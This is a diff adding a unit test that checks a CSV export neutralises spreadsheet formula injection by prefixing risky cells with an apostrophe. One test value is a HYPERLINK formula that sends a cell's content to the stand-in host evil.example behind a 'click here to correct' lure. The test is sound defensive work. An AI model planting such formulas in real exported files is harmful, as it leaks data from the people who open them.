@@ -189,3 +189,19 @@ def test_a_cell_that_looks_like_a_formula_stays_text(tmp_path):
     ws = openpyxl.load_workbook(path)["C17"]
     assert (ws["B2"].value, ws["B2"].data_type) == (hostile, "s")
     assert (ws["B3"].value, ws["B3"].data_type) == ("0912345678", "s")
+
+
+def test_a_csv_cell_that_looks_like_a_formula_is_neutralised(tmp_path):
+    """In the CSV export a text cell that a spreadsheet would run gets a leading apostrophe;
+    numbers, ordinary text and text with `=` inside are written as they are."""
+    from loaders.report import Table, write_csv
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"請點此更正")'
+    starts = [hostile, "+886 89 123", "-1", "@SUM(A1)", "\tcmd", "\r=1"]
+    plain = ["台東市", "a=b", "0912345678", "'quoted"]
+    table = Table("C17", ["原始值"], rows=[[v] for v in starts + plain] + [[-5], [3.5]])
+    write_csv([table], tmp_path)
+    with (tmp_path / "C17.csv").open(encoding="utf-8-sig", newline="") as f:
+        got = [row[0] for row in csv.reader(f)][1:]
+    assert got == ["'" + v for v in starts] + plain + ["-5", "3.5"]
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in got)
